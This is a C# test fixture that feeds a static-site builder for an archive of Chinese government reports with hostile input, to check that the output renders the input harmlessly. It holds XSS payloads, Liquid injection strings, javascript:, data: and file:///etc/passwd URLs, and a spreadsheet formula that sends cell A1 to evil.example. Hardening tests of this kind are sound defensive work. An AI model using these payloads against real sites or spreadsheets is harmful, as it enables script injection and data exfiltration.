using Archive.Tests.Support;
using Microsoft.Playwright;
using Archive.Build;
using Archive.Corpus;
using Archive.Import;

namespace Archive.Tests.Hardening;

/// <summary>
/// An input/ whose report texts and metadata (titles, source URLs, bureau names and aliases, site title, removed
/// chrome, inference reasons) carry script, markup, entities, Liquid syntax, bidi and zero-width controls and a
/// 200 KB line, plus a saved web page full of the same imported through 'archive import', and a title that is a
/// spreadsheet formula; built and served on 127.0.0.1 twice: by the in-process server, which sends no policy, and by
/// nginx with the shipped configuration and its Content-Security-Policy; opened in a headless Chromium.
/// </summary>
public sealed class HostileCorpus : IAsyncLifetime
{
    /// <summary>Markup and script that must show as text wherever they land.</summary>
    public static readonly string[] Markup =
    [
        "<script>window.pwned='script'</script>",
        "<img src=x onerror=\"window.pwned='img'\">",
        "<svg onload=\"window.pwned='svg'\"></svg>",
        "\"><script>window.pwned='attribute'</script>",
        "'><img src=x onerror=alert('quote')>",
        "<iframe src=\"javascript:window.pwned='iframe'\"></iframe>",
        "<a href=\"javascript:window.pwned='link'\">点我</a>",
        "<style>body{display:none}</style>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('meta')\">",
        "</p></main><script>alert('close')</script>",
    ];

    /// <summary>Text that must arrive exactly as written: entities stay entities, Liquid stays Liquid, controls stay.</summary>
    public static readonly string[] Literal =
    [
        "&lt;b&gt;不是粗体&lt;/b&gt; &amp;amp; &#60;script&#62;",
        "{{ site.title }}{{ report.id }}",
        "{% if true %}条件{% endif %}{% include 'timeline' %}",
        "{{ '<script>alert(\"liquid\")</script>' }}",
        "右到左\u202E覆盖文字\u202C结束",
        "零\u200B宽\u200C字\u200D符\u2060与\uFEFF",
        "javascript:alert('text')",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ];

    /// <summary>Source fields a report may not have: anything that is not an http(s) address.</summary>
    public static readonly string[] RefusedSources =
    [
        "javascript:alert(1)",
        "JaVaScRiPt:window.pwned=1",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example/x",
        "file:///etc/passwd",
    ];

    /// <summary>A title a spreadsheet would run as a formula if a CSV cell began with it.</summary>
    public const string FormulaTitle = "=HYPERLINK(\"https://evil.example/?\"&A1,\"点我\")+罗湖区2019年法治政府建设年度报告";

    public const string AcceptedSource = "https://example.org/page?q=\"><script>window.pwned='source'</script>&x=<img src=x onerror=alert(1)>";

    private readonly TempFolder _temp = new();
    private DebianChromium? _chromium;
    private ShippedNginx? _nginx;

    public HostileCorpus() =>
        _written = new(() => [.. new CorpusReader().ReadValid(Input).Reports.SelectMany(r => r.ReadBody().PlainText.Split('\n').Append(r.Title))]);

    public static int PayloadCount => Markup.Length + Literal.Length + RefusedSources.Length + 2;

    public IBrowser Browser => _chromium!.Browser;

    /// <summary>The site served with no Content-Security-Policy header: only the pages' own meta policy.</summary>
    public string Address => _chromium!.Address;

    /// <summary>The site served by nginx with the shipped configuration, which sends the policy as a header.</summary>
    public string NginxAddress => _nginx!.Address;

    public string Output => _temp.Combine("output");

    public string Input => _temp.Combine("input");

    /// <summary>Every payload in one string, as it appears in titles and paragraphs.</summary>
    public static string All => string.Concat(Markup) + string.Concat(Literal);

    public static string LongLine { get; } = "超长段落开始" + string.Concat(Enumerable.Range(0, 4000).Select(i => $"第{i}项工作已完成，<b>{i}</b>&amp;")) + "https://example.org/" + new string('x', 20000) + "超长段落结束";

    public async Task InitializeAsync()
    {
        WriteInput();
        new SiteBuilder().Build(new BuildPaths(Input, RepoPaths.Theme, Output));
        _chromium = await DebianChromium.ServeAsync(Output);
        _nginx = new ShippedNginx(Output);
    }

    public async Task DisposeAsync()
    {
        if (_chromium is not null)
        {
            await _chromium.DisposeAsync();
        }

        _nginx?.Dispose();

        _temp.Dispose();
    }

    private void WriteInput()
    {
        var quoted = (string s) => "\"" + s.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal) + "\"";
        _temp.Write("input/site.yml", $"title: {quoted("档案" + All)}\ndescription: {quoted("说明" + All)}\nbase_path: /\nurl: https://example.org/\npublisher: {quoted("出版" + All)}\n");
        _temp.Write("input/bureaus.yml", $"""
            - id: 440303-hrss
              name: {quoted("罗湖区人力资源局" + All)}
              aliases: [{quoted("旧名" + string.Concat(Markup))}, {quoted("别名" + string.Concat(Literal))}]
              division: "440303"
              kind: {quoted("人社" + Markup[0])}
            - id: 120102-hrss
              name: "天津市河东区人力资源和社会保障局"
              aliases: []
              division: "120102"
              kind: "人力资源和社会保障"
            """);
        var body = string.Join("\n", Markup.Concat(Literal).Select((p, i) => $"第{i}段：{p}"))
            + "\n一、" + Markup[0] + Literal[1]
            + "\n（一）" + Markup[1] + Literal[2]
            + "\n1." + Markup[3] + Literal[4]
            + "\n" + LongLine;
        var report = $"""
            ---
            id: 440303-hrss-2020
            title: {quoted("标题" + All)}
            bureau: 440303-hrss
            year: 2020
            published: 2021-03-01
            source: {quoted(AcceptedSource)}
            reviewed: false
            inferred:
              title:
                value: {quoted(Markup[1])}
                confidence: low
                reason: {quoted(Literal[2] + Markup[0])}
            removed: [{quoted(Markup[2])}, {quoted(Literal[1])}]
            ---
            {body}
            """;
        _temp.Write("input/reports/440303-hrss-2020.md", report);
        _temp.Write("input/reports/440303-hrss-2021.md", SampleInput.Report("440303-hrss-2021", year: "2021", published: "2022-03-01"));
        _temp.Write("input/reports/440303-hrss-2019.md", SampleInput.Report("440303-hrss-2019", year: "2019", published: "2020-03-01")
            .Replace("title: \"440303-hrss 2019年法治政府建设年度报告\"", "title: " + quoted(FormulaTitle), StringComparison.Ordinal));

        var page = $"""
            <!DOCTYPE html><html><head><meta charset="utf-8"><title>天津市河东区人力资源和社会保障局2022年法治政府建设年度报告</title>
            <link rel="canonical" href="javascript:window.pwned='canonical'"><meta property="og:url" content="data:text/html,<script>alert(1)</script>">
            <script>window.pwned='page script'</script></head><body onload="window.pwned='onload'">
            <h1>天津市河东区人力资源和社会保障局2022年法治政府建设年度报告</h1>
            <p>2022年，我局坚持依法行政。{System.Net.WebUtility.HtmlEncode(string.Concat(Markup))}</p>
            <p>{System.Net.WebUtility.HtmlEncode(string.Concat(Literal))}</p>
            <img src=x onerror="window.pwned='raw img'"><p>扫一扫在手机上打开当前页</p>
            </body></html>
            """;
        var saved = _temp.Write("raw/河东 报告.html", page);
        var imported = new Importer(Input).Import([saved]);
        var path = Path.Combine(Input, "reports", Path.GetFileName(imported.Single().ReportPath));
        File.WriteAllText(path, File.ReadAllText(path).Replace("year: unknown", "year: 2022", StringComparison.Ordinal));
        ImportedId = imported.Single().Report.Id;
        ImportedSource = new CorpusReader().ReadValid(Input).Reports.Single(r => r.SourceFile.EndsWith(Path.GetFileName(path), StringComparison.Ordinal)).SourceUrl;
    }

    /// <summary>Every title and line (heading or paragraph) of the corpus as its reports hold them: what a passage may show a slice of.</summary>
    public IReadOnlyList<string> WrittenTexts => _written.Value;

    private readonly Lazy<IReadOnlyList<string>> _written;

    /// <summary>The id 'archive import' gave the saved web page.</summary>
    public string ImportedId { get; private set; } = "";

    /// <summary>The source the imported page ended with (its javascript: canonical and data: og:url must not survive).</summary>
    public string? ImportedSource { get; private set; }
}
